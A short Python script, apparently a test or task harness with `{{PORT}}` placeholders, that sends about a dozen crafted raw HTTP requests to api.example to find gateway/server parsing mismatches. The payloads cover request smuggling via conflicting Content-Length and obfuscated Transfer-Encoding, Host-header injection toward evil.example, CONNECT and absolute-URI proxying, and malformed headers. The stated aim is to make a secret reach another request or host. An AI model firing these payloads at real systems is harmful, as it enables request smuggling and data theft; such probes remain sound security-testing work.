"""Requests that a gateway and a server could read differently, so that a second one, or another host, gets the secret."""

import socket

HOST = "Host: api.example:{{PORT}}\r\n"
for said in (
    "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    f"GET / HTTP/1.1\r\n{HOST}Host: evil.example\r\n\r\n",
    "GET / HTTP/1.0\r\n\r\n",
    f"GET http://evil.example/ HTTP/1.1\r\n{HOST}\r\n",
    f"CONNECT evil.example:443 HTTP/1.1\r\n{HOST}\r\n",
    f"TRACE / HTTP/1.1\r\n{HOST}\r\n",
    f"POST / HTTP/1.1\r\n{HOST}Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd",
    f"POST / HTTP/1.1\r\n{HOST}Content-Length: +4\r\n\r\nabcd",
    f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    f"GET / HTTP/1.1\r\n{HOST}X:\r\n evil\x00: x\r\n\r\n",
    f"GET / HTTP/1.1\r\nHost : evil.example\r\n{HOST}\r\n",
    f"GET / HTTP/1.1\r\n Host: evil.example\r\n{HOST}\r\n",
):
    try:
        with socket.create_connection(("api.example", {{PORT}}), timeout=5) as s:
            s.sendall(said.encode("latin-1"))
            s.shutdown(socket.SHUT_WR)
            print(said[:30], s.recv(65536))
    except OSError as error:
        print(said[:30], error)
